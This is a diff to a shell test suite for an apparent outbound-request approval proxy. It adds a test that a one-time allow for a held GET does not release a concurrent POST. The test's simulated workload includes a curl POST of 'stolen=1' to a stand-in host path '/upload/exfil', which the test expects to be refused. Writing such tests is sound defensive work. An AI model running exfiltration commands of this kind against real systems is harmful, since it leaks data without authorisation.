@@ -5,6 +5,8 @@
 #     run, CMD's curl gets 200; denied for this run, 403; a third left
 #     unanswered is refused at ask_timeout (2 s here); run says at start
 #     how to answer, and at the end what was asked and answered;
+#   - allow once releases only what ask showed: a POST held beside a GET
+#     that then goes is not released by "o" typed for the GET;
 #   - the prompt: run's stdin is not a terminal but it has one (a pty made
 #     here): the question comes there, an answer typed there releases the
 #     request, and one not answered in time is said to be refused;
@@ -109,6 +111,82 @@ expect_match "exclude each other" "$out" "and says why"
 out=$("$SIDECAR" ask 2>&1)
 expect_eq 1 $? "ask with no run going fails"
 expect_match "no ask-mode run is going" "$out" "and says so"
+
+# 1b. Allow once releases only what ask showed.  CMD's GET is held and
+# shown; its POST with a body for the same host and port comes on another
+# connection; the GET gives up and goes; then "o" is typed for the GET.
+# ask is stopped meanwhile (never in the middle of a look at the list), so
+# that the answer is read while the GET's question is the one shown.
+cmd="while [ ! -e $VAR/go2 ]; do sleep 0.1; done
+	curl -sS --max-time 3 -o /dev/null http://other.test/simple/requests/ 2>/dev/null &
+	sleep 1
+	curl -sS --max-time 30 -o /dev/null -w \"post %{http_code}\n\" -X POST --data-binary stolen=1 \
+		http://other.test/upload/exfil"
+sed 's/^ask_timeout = .*/ask_timeout = 30s/' "$WORLD_DIR/ask.ini" >"$WORLD_DIR/ask5.ini"
+ip netns exec "$WORLD_NS_PX" setsid -w "$SIDECAR" run -c "$WORLD_DIR/ask5.ini" --ask -- sh -c "$cmd" \
+	>"$WORLD_DIR/out5" 2>"$WORLD_DIR/err5" </dev/null &
+RUN=$!
+BG="$BG $RUN"
+attached "$RUN" || { diag "$(cat "$WORLD_DIR/err5")"; die "run --ask has no admin socket to ask"; }
+SOCK=/run/postern-ask/run-$RUN/admin.sock
+mkfifo "$WORLD_DIR/in5"
+"$SIDECAR" ask <"$WORLD_DIR/in5" >"$WORLD_DIR/ask5" 2>&1 &
+ASK=$!
+BG="$BG $ASK"
+exec 7>"$WORLD_DIR/in5"
+# waiting N: wait (10 s at most) until N requests wait; prints how many.
+waiting() {
+	local i w
+	i=0
+	while :; do
+		w=$(curl -s --max-time 3 --unix-socket "$SOCK" http://postern/pending |
+			"$WORLD_PYTHON" -c 'import json,sys; print(sum(x["waiting"] for x in json.load(sys.stdin)["pending"]))')
+		[ "$w" = "$1" ] || [ $i -ge 200 ] && break
+		sleep 0.05
+		i=$((i + 1))
+	done
+	echo "$w"
+}
+# shown ERE: wait (10 s at most) until ask has written a line matching ERE.
+shown() {
+	local i
+	i=0
+	while ! grep -Eq "$1" "$WORLD_DIR/ask5" && [ $i -lt 200 ]; do sleep 0.05; i=$((i + 1)); done
+	grep -E "$1" "$WORLD_DIR/ask5"
+}
+touch "$VAR/go2"
+out=$(shown "^postern: question [0-9]+: session default: GET other.test:80 /simple/requests/ ")
+expect_match "GET other.test:80 /simple/requests/ \(1 waiting" "$out" "ask shows the GET"
+gid=$(printf '%s\n' "$out" | sed -n 's/^postern: question \([0-9]*\):.*/\1/p' | head -n 1)
+expect_eq 2 "$(waiting 2)" "the POST to the same host and port is held too"
+i=0
+while :; do
+	kill -STOP "$ASK"
+	ls -l "/proc/$ASK/fd" 2>/dev/null | grep -q 'socket:' || break
+	kill -CONT "$ASK"
+	sleep 0.01
+	i=$((i + 1))
+	[ $i -lt 100 ] || break
+done
+expect_eq 1 "$(waiting 1)" "the GET gives up and goes"
+( printf 'o\n' >&7 ) 2>/dev/null
+kill -CONT "$ASK"
+out=$(shown "^postern: question $gid[ :]")
+diag "ask: $(cat "$WORLD_DIR/ask5")"
+expect_match "question $gid \(GET other.test:80 /simple/requests/\) is no longer pending" "$out" \
+	"allow once to the GET shown: its question went with it"
+expect_no_match "allowed once" "$(cat "$WORLD_DIR/ask5")" "nothing is allowed once"
+sleep 1
+expect_eq 0 "$(upstream_count target=/upload/exfil)" "the POST never reaches the upstream"
+out=$(shown "^postern: question [0-9]+: session default: POST other.test:80 /upload/exfil ")
+expect_match "POST other.test:80 /upload/exfil \(1 waiting" "$out" "ask then shows the POST, which waits"
+# A subshell: on a failure the run, and ask, may have ended already.
+( printf 'n\n' >&7 ) 2>/dev/null
+exec 7>&-
+wait "$RUN"
+wait "$ASK"
+expect_match "^post 403$" "$(cat "$WORLD_DIR/out5")" "denied once, the POST is refused"
+expect_eq 0 "$(upstream_count target=/upload/exfil)" "and never reached the upstream"
 
 # 2. The prompt: stdin is not a terminal, but a controlling one is there.
 cat >"$WORLD_DIR/ptyrun.py" <<-'PY'
